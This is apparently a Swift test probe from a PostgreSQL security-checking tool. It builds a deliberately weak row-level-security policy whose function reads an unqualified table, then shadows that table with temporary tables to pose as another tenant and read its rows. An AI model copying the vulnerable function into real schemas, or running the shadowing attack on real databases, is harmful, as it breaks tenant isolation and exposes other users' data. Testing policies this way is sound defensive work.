import PolicyModel

extension Probe {
  /// A temporary table of the same name comes first in every search path that does not say otherwise.
  static let shadowedTable = Probe(
    id: "shadowed-table", attack: "put a temporary table before the one that says who asks", cwe: 426,
    owasp: .functions, gravity: .critical,
    caller: .injected,
    weakness: { scene in
      [
        "CREATE TABLE public.who AS SELECT 'nobody' AS tenant", "GRANT SELECT ON public.who TO PUBLIC",
        """
        CREATE FUNCTION public.asks() RETURNS text LANGUAGE plpgsql
          AS $f$ BEGIN RETURN (SELECT tenant FROM who); END $f$
        """,
        "GRANT EXECUTE ON ALL ROUTINES IN SCHEMA public TO PUBLIC",
        "ALTER TABLE \(scene.name) ENABLE ROW LEVEL SECURITY",
        "CREATE POLICY naive ON \(scene.name) USING (\(ProbeScene.name(scene.tenant))::text = public.asks())",
      ]
    },
    judgement: .reveals
  ) { scene, _ in
    let names = ["who", "logins", "sessions", "memberships", "principals", "tenants"]
    return names.map { name in
      .run("CREATE TEMPORARY TABLE \(name) AS SELECT \(ProbeScene.literal(scene.tenants.b)) AS tenant")
    } + [.run("SELECT \(scene.columns) FROM \(scene.source)")]
  }
}
